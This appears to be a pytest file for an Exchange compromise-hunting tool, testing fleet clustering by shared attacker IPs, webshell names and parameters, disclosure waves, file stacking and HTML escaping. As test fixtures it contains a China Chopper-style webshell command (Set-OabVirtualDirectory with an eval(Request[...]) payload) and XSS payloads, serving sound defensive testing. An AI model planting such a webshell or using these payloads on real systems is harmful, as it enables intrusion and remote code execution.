"""The fleet summary: verdicts, waves, shared hands (clusters), stacking, and its HTML."""

from __future__ import annotations

import html
import json
import re
from collections import defaultdict
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exhunt.errors import UsageError
from exhunt.hunt.fleet import (
    FIRST_DAY,
    IP,
    SHELL_NAME,
    SHELL_PARAM,
    USER_AGENT,
    cluster_servers,
    fleet_html,
    fleet_summary,
    rare_files,
    server_indicators,
    write_fleet_summary,
)
from exhunt.hunt.fleet_run import hunt_many
from exhunt.hunt.verdict import decide
from exhunt.model import Finding, HostInfo, HuntReport, KindCoverage, Severity, Stage

T0 = datetime(2021, 3, 1, 3, 4, tzinfo=UTC)
CHOPPER = ('Set-OabVirtualDirectory -ExternalUrl \'http://f/<script language="JScript" '
           'runat="server">function Page_Load(){{eval(Request["{}"],"unsafe");}}</script>\'')


def finding(
    stage: Stage = Stage.EXPLOIT, *, ip: str | None = None, evidence: str = "",
    shell: str | None = None, check: str = "proxylogon.ssrf",
    severity: Severity = Severity.HIGH, when: datetime = T0,
) -> Finding:
    return Finding(check=check, title="t", severity=severity, stage=stage, cves=(),
                   timestamp=when, artifact="a.log", line=1, evidence=evidence,
                   client_ip=ip, webshell_path=shell)


def report(source: str, *found: Finding, build: str = "15.1.2176.2") -> HuntReport:
    """A hand-made report, judged as the engine judges (verdict, first exploitation)."""
    out = HuntReport(source=source, host=HostInfo(name=source.upper(), exchange_build=build))
    out.findings = list(found)
    out.coverage = {"httpproxy": KindCoverage(files=1, records=10, first=T0, last=T0)}
    decide(out)
    return out


def clusters_of(summary: dict[str, Any]) -> list[set[str]]:
    return [set(c["servers"]) for c in summary["clusters"]]


def test_two_servers_sharing_an_attacker_ip_are_one_group() -> None:
    reports = [
        report("a", finding(ip="198.51.100.7"), finding(Stage.PROBE, ip="192.0.2.1")),
        report("b", finding(Stage.REENTRY, ip="198.51.100.7", shell="C:\\x\\one.aspx")),
        report("c", finding(ip="203.0.113.9"), finding(Stage.PROBE, ip="192.0.2.1")),
    ]
    summary = fleet_summary(reports)
    assert clusters_of(summary) == [{"a", "b"}]
    [group] = summary["clusters"]
    assert {"kind": IP, "value": "198.51.100.7", "servers": 2} in group["indicators"]
    assert summary["unlinked_compromised"] == ["c"]
    rows = {r["source"]: r for r in summary["per_server"]}
    assert rows["a"]["cluster"] == rows["b"]["cluster"] == 1 and rows["c"]["cluster"] is None
    # The scanner that probed a and c is shown, but links nothing.
    [scanner] = [s for s in summary["shared_indicators"] if s["value"] == "192.0.2.1"]
    assert not scanner["links"] and "probed" in scanner["why_not"]
    json.dumps(summary)  # it is JSON


def test_a_shell_parameter_links_servers_whatever_the_other_indicators() -> None:
    reports = [
        report("a", finding(ip="198.51.100.1", evidence=CHOPPER.format("Zq81kx"))),
        report("b", finding(ip="198.51.100.2", evidence=CHOPPER.format("zq81KX"))),
        report("c", finding(ip="198.51.100.3", evidence=CHOPPER.format("other1"))),
    ]
    summary = fleet_summary(reports)
    assert clusters_of(summary) == [{"a", "b"}]
    assert summary["clusters"][0]["indicators"][0] == {
        "kind": SHELL_PARAM, "value": "zq81kx", "servers": 2}


def test_a_rare_shell_name_links_and_a_public_one_does_not() -> None:
    reports = [
        report("a", finding(Stage.BACKDOOR, shell="C:\\inetpub\\wwwroot\\aspnet_client\\Qw7.aspx")),
        report("b", finding(Stage.BACKDOOR, shell="/aspnet_client/system_web/qw7.ASPX")),
        report("c", finding(Stage.BACKDOOR, shell="C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx")),
        report("d", finding(Stage.BACKDOOR, shell="C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx")),
    ]
    for public in (None, {SHELL_NAME: frozenset({"shell.aspx"})}):  # intel lists by default
        summary = fleet_summary(reports, public=public)
        assert clusters_of(summary) == [{"a", "b"}]
        [shared] = [s for s in summary["shared_indicators"] if s["value"] == "shell.aspx"]
        assert shared["servers"] == ["c", "d"] and not shared["links"]
    assert clusters_of(fleet_summary(reports, public={})) == [{"a", "b"}, {"c", "d"}]


def test_an_address_links_only_the_servers_it_compromised() -> None:
    reports = [
        report("a", finding(ip="198.51.100.7")),
        report("b", finding(Stage.PROBE, ip="198.51.100.7"), finding(ip="203.0.113.1")),
        report("c", finding(Stage.BACKDOOR, ip="198.51.100.7")),
    ]
    summary = fleet_summary(reports)
    assert clusters_of(summary) == [{"a", "c"}]
    [shared] = [s for s in summary["shared_indicators"] if s["value"] == "198.51.100.7"]
    assert shared["servers"] == ["a", "b", "c"] and shared["links"]


def test_public_agents_internal_addresses_and_timing_link_nothing() -> None:
    tool = "6 requests from 10.0.0.5 answered 200 (first POST, UA 'python-requests/2.25.1')"
    rare = "3 requests with user agent 'Mozilla/5.0 (X11; ExhuntTestAgent 41)', first to /x"
    reports = [
        report("a", finding(ip="10.0.0.5", evidence=tool + "\n" + rare)),
        report("b", finding(ip="10.0.0.5", evidence=tool)),
        report("c", finding(ip="203.0.113.5", evidence=rare)),
    ]
    summary = fleet_summary(reports)
    assert clusters_of(summary) == [{"a", "c"}]  # only the rare agent links
    why = {(s["kind"], s["value"]): s["why_not"] for s in summary["shared_indicators"]}
    assert "internal" in why[(IP, "10.0.0.5")]
    assert "public" in why[(USER_AGENT, "python-requests/2.25.1")]
    assert "timing" in why[(FIRST_DAY, "2021-03-01")]
    assert why[(USER_AGENT, "Mozilla/5.0 (X11; ExhuntTestAgent 41)")] is None


def test_context_findings_give_no_indicators() -> None:
    quiet = finding(Stage.POST_EXPLOITATION, ip="198.51.100.9", severity=Severity.INFO)
    assert server_indicators(report("a", quiet)).found == set()


def test_waves_split_at_the_disclosure() -> None:
    before = datetime(2021, 3, 2, 23, 59, 59, tzinfo=UTC)
    after = datetime(2021, 3, 3, 0, 0, tzinfo=UTC)
    reports = [report("early", finding(when=before)), report("late", finding(when=after)),
               report("quiet")]
    summary = fleet_summary(reports)
    assert [r["wave"] for r in summary["per_server"]] == [
        "pre-disclosure", "post-disclosure", "not-exploited"]
    assert summary["waves"] == {"pre-disclosure": 1, "post-disclosure": 1, "not-exploited": 1}
    assert summary["verdicts"]["clean"] == 1


def test_lab_copies_same_hands_grouped_others_not(
    lab_copies: list[tuple[Path, dict[str, Any]]],
    second_server_same_hands: tuple[Path, dict[str, Any]],
) -> None:
    twin, truth = second_server_same_hands
    original = next(str(p) for p, t in lab_copies if t["scenario"] == "reentered")
    todo = [str(p) for p, _ in lab_copies] + [str(twin)]
    summary = fleet_summary(hunt_many(todo, workers=1))
    groups = clusters_of(summary)
    assert {original, str(twin)} in groups
    [group] = [c for c in summary["clusters"] if original in c["servers"]]
    assert set(group["servers"]) == {original, str(twin)}, "an unrelated lab copy was linked"
    linked_ips = {i["value"] for i in group["indicators"] if i["kind"] == IP}
    assert linked_ips and linked_ips <= set(truth["attacker_ips"])


# --- Stacking -----------------------------------------------------------------------------------

SHA = "ab" * 32


def test_stacking_names_added_and_changed_files_per_build() -> None:
    normal = [("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/x.js", SHA),
              ("FrontEnd/HttpProxy/owa/auth/logon.aspx", "cd" * 32)]
    reports = [report(f"s{i}", build="15.1.2176.2") for i in range(10)]
    reports += [report("other1", build="15.2.792.3"), report("other2", build="15.2.792.3")]
    files: dict[str, list[tuple[str, str]]] = {r.source: list(normal) for r in reports}
    files["s3"].append(("inetpub\\wwwroot\\aspnet_client\\Qw7.aspx", "ee" * 32))
    files["s5"][1] = ("frontend/httpproxy/OWA/auth/logon.aspx", "ff" * 32)
    files["s6"] = [(p.upper(), h.upper()) for p, h in normal]  # same files, other spelling
    stacked = rare_files(reports, files)
    rare = {(f["source"], f["path"]) for f in stacked["rare"]}
    assert rare == {("s3", "inetpub\\wwwroot\\aspnet_client\\Qw7.aspx"),
                    ("s5", "frontend/httpproxy/OWA/auth/logon.aspx")}
    assert stacked["too_few_servers"] == [{"build": "15.2.792.3", "servers": 2}]
    summary = fleet_summary(reports, files=files)
    assert summary["stacking"] == stacked
    assert "Qw7.aspx" in fleet_html(reports, files=files)


def test_no_file_records_means_no_stacking_claimed() -> None:
    summary = fleet_summary([report("a"), report("b"), report("c")])
    assert summary["stacking"]["available"] is False
    assert "stacking was not done" in fleet_html([report("a")])


# --- HTML ---------------------------------------------------------------------------------------

HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>'


def test_html_escapes_hostile_agents_shell_names_and_sources() -> None:
    evidence = f"1 requests with user agent '{HOSTILE}', first to /x\n" + CHOPPER.format(
        '"><script>x</script>')
    reports = [
        report(f"src{HOSTILE}", finding(ip="198.51.100.4", evidence=evidence,
                                        shell=f"C:\\inetpub\\{HOSTILE}.aspx")),
        report("b", finding(ip="198.51.100.4", evidence=evidence,
                            shell=f"C:\\inetpub\\{HOSTILE}.aspx")),
    ]
    reports[0].host.name = HOSTILE
    page = fleet_html(reports)
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert html.escape("<script>alert(1)</script>") in page  # shown, not run
    assert 'http-equiv="Content-Security-Policy"' in page and "default-src 'none'" in page
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page, re.IGNORECASE)


# --- Properties ---------------------------------------------------------------------------------

assignments = st.lists(st.sets(st.integers(0, 15), max_size=5), min_size=0, max_size=12)


@settings(max_examples=300, deadline=None)
@given(assignments)
def test_clusters_are_connected_disjoint_and_complete(per_server: list[set[int]]) -> None:
    links: dict[int, list[int]] = defaultdict(list)
    for server, held in enumerate(per_server):
        for indicator in held:
            links[indicator].append(server)
    clusters = cluster_servers(links, len(per_server))
    placed = [s for c in clusters for s in c]
    assert len(placed) == len(set(placed)), "a server is in two clusters"
    where = {s: n for n, c in enumerate(clusters) for s in c}
    for servers in links.values():  # servers sharing an indicator end up together
        if len(servers) > 1:
            assert len({where.get(s) for s in servers}) == 1 and servers[0] in where
    for cluster in clusters:  # and every cluster is held together by shared indicators
        assert len(cluster) > 1
        reached, frontier = {cluster[0]}, [cluster[0]]
        while frontier:
            server = frontier.pop()
            for other in cluster:
                if other not in reached and per_server[server] & per_server[other]:
                    reached.add(other)
                    frontier.append(other)
        assert reached == set(cluster)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.one_of(st.none(), st.text(max_size=60)))
def test_indicators_from_any_evidence_are_taken_from_it(evidence: str, shell: str | None) -> None:
    found = server_indicators(report("a", finding(evidence=evidence, shell=shell))).found
    for indicator in found:
        if indicator.kind in (USER_AGENT,):
            assert indicator.value.strip() in evidence
        if indicator.kind == SHELL_PARAM:
            assert indicator.value in evidence.lower()
        if indicator.kind == SHELL_NAME:
            assert shell is not None and indicator.value in shell.lower()


def test_unreadable_and_empty_copies_are_not_counted_clean() -> None:
    broken = HuntReport(source="garbage.zip", unreadable=True)
    empty = HuntReport(source="empty")
    summary = fleet_summary([broken, empty, report("a", finding())])
    assert summary["verdicts"]["clean"] == 1 and summary["verdicts"]["exploited"] == 1
    assert summary["unreadable"] == ["garbage.zip"] and summary["no_logs_read"] == ["empty"]
    page = fleet_html([broken, empty])
    assert "1 could not be read" in page and "their verdict says nothing" in page


def test_stacking_compares_the_same_web_file_across_triage_layouts() -> None:
    layouts = ["C/", "uploads/auto/C%3A/", "", "kape/C/", "x/"]
    reports = [report(f"s{i}") for i in range(len(layouts))]
    files = {r.source: [(f"{prefix}inetpub/wwwroot/aspnet_client/x.js", SHA),
                        (f"{prefix}Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
                         f"HttpProxy/owa/auth/logon.aspx", "cd" * 32)]
             for r, prefix in zip(reports, layouts, strict=True)}
    assert rare_files(reports, files)["rare"] == []


def test_the_summary_is_written_as_json_or_html(tmp_path: Path) -> None:
    reports = [report("a", finding(ip="198.51.100.7")), report("b", finding(ip="198.51.100.7"))]
    write_fleet_summary(reports, tmp_path / "fleet.json")
    data = json.loads((tmp_path / "fleet.json").read_text("utf-8"))
    assert data["clusters"][0]["servers"] == ["a", "b"]
    write_fleet_summary(reports, tmp_path / "fleet.HTML")
    assert "Group 1: 2 servers" in (tmp_path / "fleet.HTML").read_text("utf-8")
    with pytest.raises(UsageError, match=r"json or \.html"):
        write_fleet_summary(reports, tmp_path / "fleet.txt")


def test_file_records_kept_in_reports_are_stacked_by_default() -> None:
    class WithFiles(HuntReport):  # what the engine gives once it keeps `web_files`
        web_files: list[tuple[str, str]]

    reports: list[HuntReport] = []
    for i in range(4):
        kept = WithFiles(source=f"s{i}", host=HostInfo(exchange_build="15.1.2176.2"))
        kept.web_files = [("inetpub/wwwroot/aspnet_client/x.js", SHA)]
        reports.append(kept)
    reports[3].web_files.append(("inetpub/wwwroot/aspnet_client/zz9.aspx", "ee" * 32))  # type: ignore[attr-defined]
    stacking = fleet_summary(reports)["stacking"]
    assert stacking["available"]
    assert [(f["source"], f["path"]) for f in stacking["rare"]] == [
        ("s3", "inetpub/wwwroot/aspnet_client/zz9.aspx")]
